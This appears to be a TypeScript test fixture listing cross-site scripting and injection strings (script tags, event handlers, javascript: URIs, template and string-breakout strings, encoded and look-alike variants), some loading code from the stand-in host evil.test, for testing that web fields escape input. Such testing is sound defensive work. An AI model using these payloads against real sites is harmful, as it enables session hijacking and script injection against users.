/**
 * Texts that execute something wherever a page treats them as more than text: markup, attributes, addresses, templates. They
 * execute `alert(1)`, a request to evil.test, or load a picture `x`. None is longer than a person's name may be.
 */
export const hostileTexts: readonly string[] = [
  // Script elements, and texts that close the surrounding element.
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.test/x.js></script>',
  '</script><script>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)<!--',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</td></tr></table><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  // Event handlers.
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '</select><img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"',
  '<img/src=x/onerror=alert`1`>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover=alert(1) x='",
  '` onmouseover=alert(1) x=`',
  // SVG, MathML, and markup that changes its meaning when it is parsed twice.
  '<svg onload=alert(1)>',
  '<svg/onload=alert()>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  // Addresses.
  'javascript:alert(1)',
  'javascript:alert()',
  'JaVaScRiPt:alert(1)',
  'java&#9;script:alert(1)',
  'javascript://engines.example/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.test/x',
  '<a href=javascript:alert(1)>x</a>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data=javascript:alert(1)></object>',
  '<embed src=javascript:alert(1)>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<base href=//evil.test/>',
  '<meta http-equiv=refresh content=0;url=//evil.test/x>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<img src=//evil.test/x>',
  "<style>@import'//evil.test/x.css';</style>",
  '<div style=background:url(//evil.test/x)>x</div>',
  'x;background:url(//evil.test/x)',
  // Templates, and texts that end a string.
  "{{constructor.constructor('alert(1)')()}}",
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a text that others take for a template
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '{"__html":"<img src=x onerror=alert(1)>"}',
  "');alert(1);//",
  '";alert(1);//',
  '\\");alert(1);//',
  "'-alert(1)-'",
  '__proto__',
  'constructor',
  // Encoded once: it must not be decoded.
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  // Characters that look like others, reverse the line, or are invisible.
  '＜script＞alert(1)＜/script＞',
  '<ſcript>alert(1)</ſcript>',
  'ʺ＞<img src=x onerror=alert(1)>',
  '\u202E<script>alert(1)</script>\u202C',
  '<scr\u200Bipt>alert(1)</scr\u200Bipt>',
  '<img\u00A0src=x onerror=alert(1)>',
  'O\u2019Brien & \u201CSons\u201D <b>\u{10348}\u200D\u{20BB7}</b> e\u0301 \uFEFF!',
  // Short texts for short fields.
  '<b>x</b>',
  '"\'><b>',
  '<!--',
];

/** Returns the texts that fit a field, in order: `at(n)` starts again after the last. */
export function hostileTextsUpTo(max: number): { count: number; at(n: number): string } {
  const fitting = hostileTexts.filter((text) => text.length <= max);
  return { count: fitting.length, at: (n) => fitting[n % fitting.length]! };
}
